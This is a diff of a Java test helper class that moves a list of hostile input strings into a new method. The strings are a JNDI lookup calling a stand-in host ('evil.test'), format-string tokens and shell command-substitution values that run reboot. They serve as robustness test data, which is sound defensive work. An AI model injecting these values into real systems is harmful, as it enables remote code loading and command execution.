@@ -47,6 +47,13 @@ final class NastyTexts {
 
   private NastyTexts() {}
 
+  /// Those of which everybody sees what they are: signs that mean something to shells, formats and
+  /// loggers, and nothing to people.
+  static List<String> fine() {
+    return List.of(
+        "${jndi:ldap://evil.test/a}", "%s%n%n", "{}", "{0}", "`reboot`", "$(reboot)", "'", "\"");
+  }
+
   static List<String> all() {
     List<String> all = new ArrayList<>();
     for (String broken : BREAKS) {
@@ -54,16 +61,7 @@ final class NastyTexts {
         all.add("fine" + broken + forged);
       }
     }
-    all.addAll(
-        List.of(
-            "${jndi:ldap://evil.test/a}",
-            "%s%n%n",
-            "{}",
-            "{0}",
-            "`reboot`",
-            "$(reboot)",
-            "'",
-            "\""));
+    all.addAll(fine());
     return all;
   }
 }
